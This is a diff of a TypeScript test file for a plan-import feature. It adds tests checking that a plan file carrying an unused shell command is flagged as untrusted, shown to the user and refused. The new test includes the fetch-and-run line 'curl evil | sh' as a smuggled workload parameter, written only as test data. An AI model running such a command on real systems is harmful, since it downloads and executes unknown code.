@@ -1,10 +1,11 @@
 import { generateKeyPairSync } from 'node:crypto';
 
+import { methods } from '../../../src/shared/contract.ts';
 import { fail } from '../../../src/shared/errors.ts';
 import type { PlanFile } from '../../../src/shared/plan.ts';
 import { decideAll } from '../../../src/shared/planImport/decide.ts';
 import { importOwn, sourceOf } from '../../../src/shared/planImport/importOwn.ts';
-import type { ImportDecision } from '../../../src/shared/planImport/schema.ts';
+import type { ImportDecision, ImportSource } from '../../../src/shared/planImport/schema.ts';
 import { sourceKey } from '../../../src/shared/secretUse.ts';
 import type { StudySpec } from '../../../src/shared/study.ts';
 import { studySpecSchema } from '../../../src/shared/study.ts';
@@ -254,6 +255,64 @@ test('before somebody agreed nothing is stored, sent or run; what was agreed to 
       decisions: decideAll(shown, 'replace'),
     }),
   ).rejects.toMatchObject({ kind: 'untrusted' });
+});
+
+test('a shell command that no plan of the file uses is shown and agreed to all the same: of a profile beside it, of a testbed beside it', async () => {
+  const file = testPlanFile();
+  const own = sourceOf(file);
+  const before = await harness.call('plan.previewImport', own);
+  await harness.call('plan.import', { ...own, trust: before.digest });
+  const [java] = file.profile!.workloads;
+  const params = { command: 'curl evil | sh', pattern: '' };
+  const brings: Partial<ImportSource>[] = [
+    {
+      profiles: [
+        { ...file.profile!, id: 'beside', workloads: [{ ...java!, driver: 'command', params }] },
+      ],
+    },
+    {
+      testbeds: [
+        {
+          ...file.testbed,
+          id: 'beside',
+          tiles: file.testbed.tiles.map((tile) => ({
+            ...tile,
+            workloads: tile.workloads.map((w) => ({ ...w, params })),
+          })),
+        },
+      ],
+    },
+  ];
+  for (const more of brings) {
+    const source = { ...own, ...more };
+    const shown = await harness.call('plan.previewImport', source);
+    expect(shown.trusted).toBe(false);
+    expect(shown.loads).toContainEqual(
+      expect.objectContaining({ isCommand: true, text: 'curl evil | sh' }),
+    );
+    await expect(
+      harness.call('plan.import', { ...source, trust: before.digest }),
+    ).rejects.toMatchObject({ kind: 'untrusted' });
+  }
+  expect((await harness.call('profile.list', {})).some(({ id }) => id === 'beside')).toBe(false);
+});
+
+// Each way a document of somebody else comes in: what it may bring, and where its consent is tested.
+const waysIn: Readonly<Record<string, string>> = {
+  'plan.import': 'above',
+  'plan.previewImport': 'stores nothing',
+  'testbed.import': 'testbeds/life.test.ts',
+  'profile.import': 'profiles/service.test.ts',
+  'bundle.import': 'a run to be read; it is never launched',
+  'file.import': 'a run to be read; it is never launched',
+  'file.importStop': 'stores nothing',
+};
+test('no document comes in by a way that nobody thought about', () => {
+  expect(
+    Object.keys(methods)
+      .filter((name) => /import/i.test(name))
+      .sort(),
+  ).toEqual(Object.keys(waysIn).sort());
 });
 
 const different = (): PlanFile => {
